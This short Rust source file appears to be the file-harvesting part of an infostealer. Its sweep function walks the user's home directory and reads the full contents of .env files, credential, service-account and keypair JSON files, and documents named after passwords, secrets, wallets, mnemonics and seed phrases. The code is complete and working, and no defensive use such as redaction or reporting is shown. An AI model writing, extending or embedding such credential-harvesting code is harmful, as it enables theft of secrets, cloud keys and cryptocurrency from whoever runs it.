use std::fs;
use std::path::Path;
use walkdir::WalkDir;

pub struct Found {
    pub name: String,
    pub content: Vec<u8>,
}

const WORDS: [&str; 6] = ["password", "secret", "wallet", "mnemonic", "seed", "backup"];

fn wanted(path: &Path) -> bool {
    let name = path.file_name().unwrap_or_default().to_string_lossy().to_lowercase();
    let extension = path.extension().unwrap_or_default().to_string_lossy().to_lowercase();
    name.starts_with(".env")
        || (extension == "json" && ["credential", "service-account", "keypair"].iter().any(|it| name.contains(it)))
        || (["txt", "md", "docx", "pdf"].contains(&extension.as_str()) && WORDS.iter().any(|it| name.contains(it)))
}

pub fn sweep() -> Vec<Found> {
    let Some(home) = dirs::home_dir() else { return Vec::new() };
    WalkDir::new(home)
        .max_depth(8)
        .into_iter()
        .flatten()
        .filter(|it| it.file_type().is_file() && wanted(it.path()))
        .filter_map(|it| Some(Found { name: it.path().display().to_string(), content: fs::read(it.path()).ok()? }))
        .collect()
}
